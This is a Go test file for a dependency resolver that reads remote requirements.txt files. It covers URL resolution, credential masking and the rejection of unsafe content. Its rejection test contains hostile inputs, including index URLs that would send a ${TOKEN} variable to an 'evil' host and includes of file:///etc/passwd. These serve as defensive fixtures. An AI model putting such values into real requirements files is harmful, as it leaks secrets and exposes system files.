package deps

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestRemote: files that URLs name are read as those of the project once they are fetched.
func TestRemote(t *testing.T) {
	const archive = "-- requirements.txt --\n-r https://me:s3cr3t@h/shared/base.txt?token=t0ken\n-c https://h/limits.txt\na\n"
	texts := map[string]string{
		"https://me:s3cr3t@h/shared/base.txt?token=t0ken": "b>=1\n-c more.txt\n-r ../other.txt\n--extra-index-url https://h/simple\n-r base.txt\n",
		"https://h/limits.txt":                            "a<2\n",
		"https://me:s3cr3t@h/shared/more.txt":             "b<3 # as it is\n",
		"https://me:s3cr3t@h/other.txt":                   "jax==0.4\n",
		"https://me:s3cr3t@h/shared/base.txt":             "c\n",
	}
	o := at(project(t, archive), "")
	o.Texts = map[string][]byte{}
	var w Wanted
	for round := 1; ; round++ {
		var err error
		if w, err = Find(o); err != nil || round > 3 {
			t.Fatalf("round %d: %v", round, err)
		}
		if w.Unread != (len(w.Unfetched) > 0) {
			t.Errorf("round %d: unread %v with %d to fetch", round, w.Unread, len(w.Unfetched))
		}
		if len(w.Unfetched) == 0 {
			break
		}
		for _, l := range w.Unfetched {
			if !strings.HasPrefix(l.Place(), "requirements.txt:") && !strings.HasPrefix(l.Place(), "https://***@h/shared/base.txt?***:") {
				t.Errorf("%s is said to be at %s", l.Text, l.Place())
			}
			o.Texts[l.Text] = []byte(texts[l.Text])
		}
	}
	got := found(w)
	want := want{Kind: Requirements, Source: "requirements.txt", Requirements: []string{"b>=1", "c", "a"}, Dropped: []string{"jax==0.4"}, Local: []string{},
		Constraints: []string{"b<3", "a<2"}, Options: []string{"--extra-index-url https://h/simple"}, Warnings: 2}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if at := w.Dropped[0].Place(); at != "https://***@h/other.txt:1" {
		t.Errorf("JAX is at %s", at)
	}
	for _, warning := range w.Warnings { // requirements.txt has credentials, and so has what it fetches
		if !strings.Contains(warning, "has credentials in a URL") || strings.Contains(warning, "s3cr3t") || strings.Contains(warning, "t0ken") {
			t.Errorf("warning %q", warning)
		}
	}
}

// TestRemoteBeside: a relative name in a file that was fetched is beside it, whatever variables the URL has.
func TestRemoteBeside(t *testing.T) {
	for name, c := range map[string]struct{ from, names, want string }{
		"credentials":            {"https://${U}:${P}@h/a/b.txt", "c.txt", "https://${U}:${P}@h/a/c.txt"},
		"a host":                 {"https://${HOST}/a/b.txt", "c.txt", "https://${HOST}/a/c.txt"},
		"a port":                 {"https://h:${PORT}/a/b.txt", "../c.txt", "https://h:${PORT}/c.txt"},
		"a directory":            {"https://h/${V}/b.txt", "./d/c.txt", "https://h/${V}/d/c.txt"},
		"the parent":             {"https://h/${V}/b/b.txt", "../c.txt", "https://h/${V}/c.txt"},
		"above the root":         {"https://h/${V}/b.txt", "../../../c.txt", "https://h/c.txt"},
		"the root":               {"https://${U}@h/a/b.txt", "/c.txt", "https://${U}@h/c.txt"},
		"another host":           {"https://${U}@h/a/b.txt", "//g/c.txt", "https://g/c.txt"},
		"another URL":            {"https://${U}@h/a/b.txt", "https://g/c.txt?x=1", "https://g/c.txt?x=1"},
		"the file's own token":   {"https://h/a/b.txt?token=${TOKEN}", "c.txt", "https://h/a/c.txt"},
		"a query of the name":    {"https://h/${V}/b.txt", "c.txt?raw=1", "https://h/${V}/c.txt?raw=1"},
		"a slash in the query":   {"https://h/a/b.txt?ref=x/${V}", "c.txt", "https://h/a/c.txt"},
		"no directory":           {"https://h?file=${V}", "c.txt", "https://h/c.txt"},
		"something like a query": {"https://h/${V}/b.txt", "c%20d%3Fe.txt", "https://h/${V}/c%20d%3Fe.txt"},
	} {
		o := at(project(t, "-- requirements.txt --\n-r "+c.from+"\n"), "")
		o.Texts = map[string][]byte{c.from: []byte("-c " + c.names + "\n")}
		w, err := Find(o)
		if err != nil || len(w.Unfetched) != 1 || w.Unfetched[0].Text != c.want {
			t.Errorf("%s: %s in %s is %v (%v), want %s", name, c.names, c.from, w.Unfetched, err, c.want)
		}
	}
}

// TestRemoteRejects: what a server sends names neither files nor variables of this machine.
func TestRemoteRejects(t *testing.T) {
	many := ""
	for i := range maxRemote {
		many += fmt.Sprintf("-c https://h/%d\n", i)
	}
	for name, c := range map[string]struct{ text, want string }{
		"a file":            {"./a-1-py3-none-any.whl\n", `https://h/r.txt:1: "./a-1-py3-none-any.whl": a file that is fetched from a URL can't name files of this machine`},
		"a project":         {"a\n-e .\n", "https://h/r.txt:2: "},
		"the root":          {"a @ file:///etc\n", "can't name files of this machine"},
		"links":             {"--find-links wheels\n", "can't name files of this machine"},
		"a variable":        {"--extra-index-url https://${TOKEN}@evil/simple\n", "https://h/r.txt:1: only files of the project may have variables, such as ${TOKEN}"},
		"a split variable":  {"-c 'https://evil/?x=$'{TOKEN}\n", "only files of the project may have variables, such as ${TOKEN}"},
		"a split index":     {"--extra-index-url https://evil/$'{'TOKEN}/simple\n", "only files of the project may have variables, such as ${TOKEN}"},
		"less than TLS":     {"-r http://h/more.txt\n", "only https URLs and files of the project are read"},
		"a local include":   {"-r file:///etc/passwd\n", "only https URLs and files of the project are read"},
		"a page":            {"<!DOCTYPE html>\n", `https://h/r.txt:1: column 1 of "<!DOCTYPE html>"`},
		"too many":          {many, "more than 20 URLs"},
		"other than UTF-8":  {"a\n\xff", "https://h/r.txt:2: not UTF-8"},
		"a URL of no place": {"-r https://h/%zz\n", "is not the URL of a file"},
	} {
		o := at(project(t, "-- requirements.txt --\n-r https://h/r.txt\n"), "")
		o.Texts = map[string][]byte{"https://h/r.txt": []byte(c.text)}
		if _, err := Find(o); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: got %v, want %q", name, err, c.want)
		}
	}
}
